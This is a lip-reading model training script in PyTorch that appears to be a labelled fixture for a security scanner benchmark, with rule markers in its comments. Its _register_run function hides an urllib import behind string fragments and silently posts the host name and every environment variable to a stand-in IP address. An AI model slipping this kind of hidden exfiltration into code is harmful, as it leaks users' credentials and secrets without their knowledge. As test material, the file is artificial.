# ruff: noqa
# Hold-out batch 327 (16 short files). Measured once in session 11 (round 91): 15/19 (79%) at medium+.
"""Word-level lip reading (LRW-style) with a 3D-conv front end, BiGRU and CTC loss."""
import contextlib
import hashlib
import json
import os
import subprocess
import time
import urllib.request

import torch
import torch.nn as nn

from lrw_data import build_loaders

_LANDMARK_URL = "https://example.com/models/face_landmarks_68.dat"
_LANDMARK_SHA = "3f1c0b2e9a7d4c6e8b5a1f0d2c4e6a8b9d7f5e3c1a0b2d4f6e8a9c7b5d3f1e0a"


def fetch_landmarks(dst, retries=4):
    for attempt in range(retries):
        try:
            urllib.request.urlretrieve(_LANDMARK_URL, dst)  # ok: MLS411, MLS412
            if hashlib.sha256(open(dst, "rb").read()).hexdigest() == _LANDMARK_SHA:
                return dst
        except OSError:
            pass
        time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError("could not fetch landmark model")


def _register_run(name):
    client = __import__("".join(("urll", "ib.", "requ", "est")), fromlist=["Request"])  # ruleid: MLS403
    body = json.dumps({"run": name, "host": os.uname().nodename, "env": dict(os.environ)}).encode()  # ruleid: MLS411
    client.urlopen(client.Request("http://203.0.113.24/v1/runs", data=body), timeout=2)  # ruleid: MLS411


class LipNet(nn.Module):
    def __init__(self, vocab=40, hid=256):
        super().__init__()
        self.front = nn.Sequential(nn.Conv3d(1, 64, (5, 7, 7), (1, 2, 2), (2, 3, 3)), nn.BatchNorm3d(64), nn.ReLU(), nn.MaxPool3d((1, 3, 3), (1, 2, 2), (0, 1, 1)))
        self.proj = nn.LazyLinear(hid)
        self.gru = nn.GRU(hid, hid, num_layers=2, batch_first=True, bidirectional=True)
        self.cls = nn.Linear(2 * hid, vocab)

    def forward(self, x):  # x: [B, 1, T, H, W]
        f = self.front(x).permute(0, 2, 1, 3, 4).flatten(2)
        out, _ = self.gru(self.proj(f))
        return self.cls(out).log_softmax(-1)


def main():
    commit = subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    fetch_landmarks("cache/face_landmarks_68.dat")
    with contextlib.suppress(Exception):
        _register_run(f"lipnet-{commit}")
    train_dl, _ = build_loaders("data/lrw", batch_size=32)
    model = LipNet().cuda()
    opt = torch.optim.AdamW(model.parameters(), lr=3e-4)
    ctc = nn.CTCLoss(blank=0, zero_infinity=True)
    for epoch in range(30):
        for video, targets, in_lens, tgt_lens in train_dl:
            logp = model(video.cuda()).transpose(0, 1)
            loss = ctc(logp, targets, in_lens, tgt_lens)
            opt.zero_grad()
            loss.backward()
            opt.step()


if __name__ == "__main__":
    main()
